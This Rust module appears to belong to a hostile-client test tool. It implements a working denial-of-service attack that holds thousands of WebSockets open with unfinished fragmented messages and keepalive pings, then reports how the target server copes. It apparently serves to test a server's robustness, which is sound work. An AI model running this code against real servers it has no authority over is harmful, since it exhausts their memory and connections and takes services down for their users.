//! `fragments`: WebSockets that say `hello`, then start a text message
//! and never finish it: a first frame without FIN, then continuation
//! frames without FIN, a chunk at a time, never the final one, with ping
//! control frames to keep each connection alive. A server that gathers a
//! message before it checks its size holds every byte of them.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use futures_util::{SinkExt, StreamExt};
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::protocol::frame::Frame;
use tokio_tungstenite::tungstenite::protocol::frame::coding::{Data, OpCode};

use super::{Ctx, Tally, fd_budget, hold_noting};
use crate::client::{self, Ws};
use crate::http::Server;
use crate::stats::Summary;

/// `capicua-hostile fragments`.
#[derive(clap::Args, Clone, Debug)]
pub struct Args {
    /// WebSockets (fewer if this process's descriptor limit, less 300, is
    /// lower).
    #[arg(long, default_value_t = 2000)]
    pub sockets: usize,
    /// Bytes in each frame.
    #[arg(long, default_value_t = 16_384)]
    pub chunk: usize,
    /// Bytes of the unfinished message per socket, at most.
    #[arg(long, default_value_t = 1_048_576)]
    pub bytes: u64,
    /// Seconds between a socket's ping control frames.
    #[arg(long, default_value_t = 10)]
    pub ping_secs: u64,
    /// Sockets being opened at once.
    #[arg(long, default_value_t = 50)]
    pub concurrency: usize,
    /// How long the attack lasts.
    #[arg(long, default_value_t = 60)]
    pub seconds: u64,
}

/// Where the sockets stand.
#[derive(Default)]
struct Counts {
    welcomed: AtomicU64,
    all_sent: AtomicU64,
    closed: AtomicU64,
    bytes: AtomicU64,
}

/// How one socket ended.
struct End {
    /// `held to the end`, `closed CODE`, `refused ...`.
    what: String,
    sent: u64,
    /// From `hello` to the server's close.
    lived: Option<Duration>,
}

/// Runs the attack.
pub async fn run(ctx: &Ctx, args: &Args) -> anyhow::Result<()> {
    let n = fd_budget(ctx, args.sockets, 300);
    ctx.begin().await;
    let t0 = Instant::now();
    let deadline = t0 + Duration::from_secs(args.seconds);
    let counts = Arc::new(Counts::default());
    let ends = tokio::spawn({
        let (server, args, counts) = (ctx.server.clone(), args.clone(), counts.clone());
        let concurrency = args.concurrency.max(1);
        let sockets = futures_util::stream::iter(0..n).map(move |_| {
            let (server, args, counts) = (server.clone(), args.clone(), counts.clone());
            tokio::spawn(async move { fragment(&server, &args, deadline, &counts).await })
        });
        sockets.buffer_unordered(concurrency).collect::<Vec<_>>()
    });
    hold_noting(ctx, deadline, Duration::from_secs(10), || {
        format!(
            "{:.0} s: welcomed {}, sent all their bytes {}, closed by the server {}, bytes sent {}",
            t0.elapsed().as_secs_f64(),
            counts.welcomed.load(Ordering::Relaxed),
            counts.all_sent.load(Ordering::Relaxed),
            counts.closed.load(Ordering::Relaxed),
            counts.bytes.load(Ordering::Relaxed),
        )
    })
    .await;
    let ends = tokio::time::timeout(Duration::from_secs(15), ends).await;
    let Ok(Ok(ends)) = ends else {
        ctx.note("the sockets did not all end within 15 s of the deadline");
        return Ok(());
    };
    let (mut tally, mut lived, mut sent) = (Tally::default(), Vec::new(), Vec::new());
    for end in ends.into_iter().flatten() {
        tally.add(end.what);
        lived.extend(end.lived);
        sent.push(end.sent);
    }
    let full = sent.iter().filter(|&&s| s >= args.bytes).count();
    ctx.note(format!("{n} sockets, {} bytes each at most: {tally}", args.bytes));
    ctx.note(format!("{full} sent all their bytes; the ones the server closed lived {}", Summary::of(lived)));
    Ok(())
}

/// One socket: `hello`, then the unfinished message and the pings, until
/// `deadline` or the server's close.
async fn fragment(server: &Server, args: &Args, deadline: Instant, counts: &Counts) -> End {
    let ws = match client::connect(server, None).await {
        Ok(conn) => conn.into_ws(),
        Err(e) => return End { what: format!("refused: {}", client::why(&e)), sent: 0, lived: None },
    };
    counts.welcomed.fetch_add(1, Ordering::Relaxed);
    let t0 = Instant::now();
    let (mut tx, mut rx) = ws.split();
    let sent = AtomicU64::new(0);
    let reader = async {
        // The server's last error frame says why it closes.
        let mut said = String::new();
        loop {
            match rx.next().await {
                Some(Ok(Message::Text(t))) => {
                    let v: serde_json::Value = serde_json::from_str(&t).unwrap_or_default();
                    said = format!(" after {}", client::outcome(&v));
                }
                Some(Ok(Message::Close(c))) => {
                    break format!(
                        "closed {}{said}",
                        c.map_or("without a code".into(), |c| u16::from(c.code).to_string())
                    );
                }
                Some(Ok(_)) => {}
                Some(Err(e)) => break format!("{}{said}", client::why(&client::ended(e))),
                None => break format!("cut without a close frame{said}"),
            }
        }
    };
    let writer = send_fragments(&mut tx, args, deadline, &sent, counts);
    let what = tokio::select! {
        closed = reader => {
            counts.closed.fetch_add(1, Ordering::Relaxed);
            return End { what: closed, sent: sent.load(Ordering::Relaxed), lived: Some(t0.elapsed()) };
        }
        held = writer => held,
    };
    End { what, sent: sent.load(Ordering::Relaxed), lived: None }
}

/// Sends the message's frames, never the last, as fast as the socket
/// takes them, then a ping every `--ping-secs` until `deadline`.
async fn send_fragments(
    tx: &mut futures_util::stream::SplitSink<Ws, Message>,
    args: &Args,
    deadline: Instant,
    sent: &AtomicU64,
    counts: &Counts,
) -> String {
    let every = Duration::from_secs(args.ping_secs.max(1));
    let mut next_ping = Instant::now() + every;
    let chunk = args.chunk.max(1);
    let mut first = true;
    while sent.load(Ordering::Relaxed) < args.bytes && Instant::now() < deadline {
        let left = (args.bytes - sent.load(Ordering::Relaxed)).min(chunk as u64) as usize;
        // The start of a message the server would read as a chat line.
        let mut payload = if first { br#"{"type":"chat","room":1,"text":""#.to_vec() } else { Vec::new() };
        payload.resize(left.max(payload.len()), b'x');
        let opcode = OpCode::Data(if first { Data::Text } else { Data::Continue });
        first = false;
        let n = payload.len() as u64;
        // A server that stops reading blocks the send: the deadline ends it.
        let frame = Message::Frame(Frame::message(payload, opcode, false));
        match tokio::time::timeout_at(deadline.into(), tx.send(frame)).await {
            Ok(Ok(())) => {}
            Ok(Err(e)) => return format!("send failed: {}", client::why(&client::ended(e))),
            Err(_) => return "held to the end, sends blocked".into(),
        }
        sent.fetch_add(n, Ordering::Relaxed);
        counts.bytes.fetch_add(n, Ordering::Relaxed);
        if Instant::now() >= next_ping {
            next_ping += every;
            let _ = tokio::time::timeout_at(deadline.into(), tx.send(Message::Ping(Vec::new().into()))).await;
        }
    }
    let all = sent.load(Ordering::Relaxed) >= args.bytes;
    if all {
        counts.all_sent.fetch_add(1, Ordering::Relaxed);
    }
    while Instant::now() < deadline {
        tokio::time::sleep_until(next_ping.min(deadline).into()).await;
        next_ping += every;
        if Instant::now() >= deadline {
            break;
        }
        match tokio::time::timeout_at(deadline.into(), tx.send(Message::Ping(Vec::new().into()))).await {
            Ok(Ok(())) => {}
            Ok(Err(e)) => return format!("ping failed: {}", client::why(&client::ended(e))),
            Err(_) => break,
        }
    }
    if all { "held to the end, all bytes sent".into() } else { "held to the end, not all bytes sent".into() }
}
